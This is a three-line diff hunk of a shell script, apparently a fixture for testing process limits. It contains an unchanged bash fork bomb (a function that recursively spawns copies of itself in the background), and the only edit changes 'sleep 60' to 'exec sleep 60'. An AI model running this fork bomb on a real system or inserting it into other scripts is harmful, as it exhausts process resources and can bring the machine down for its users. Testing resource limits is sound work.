@@ -1,3 +1,3 @@
 bomb() { bomb | bomb & }
 bomb
-sleep 60
+exec sleep 60
